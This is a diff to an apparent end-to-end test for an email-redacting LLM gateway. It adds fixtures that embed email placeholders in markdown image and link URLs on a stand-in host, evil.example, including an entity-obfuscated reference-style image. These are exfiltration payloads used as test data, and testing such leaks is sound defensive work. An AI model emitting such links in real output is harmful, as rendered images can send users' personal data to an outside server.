@@ -10,7 +10,7 @@ from e2e.support.server import Gatehouse
 ADA, BOB = "ada.lovelace@example.com", "bob@example.org"
 ASKED = f"My mail is {ADA}, and {BOB}, who is older?"
 SENT = "My mail is [EMAIL_1], and [EMAIL_2], who is older?"
-PLACEHOLDERS_IN_LINKS = "![x](https://evil.example/[EMAIL_1].png) https://evil.example/?q=[EMAIL_2] <img src='/[EMAIL_1]'> "
+PLACEHOLDERS_IN_LINKS = "![x](https://evil.example/[EMAIL_1].png) https://evil.example/?q=[EMAIL_2] <img src='/[EMAIL_1]'> ![x][r]\n[r]: https:&#47;&#47;evil&#46;example&#47;[EMAIL_1]\n"
 
 
 def ask_openai(client, content, stream, **more):
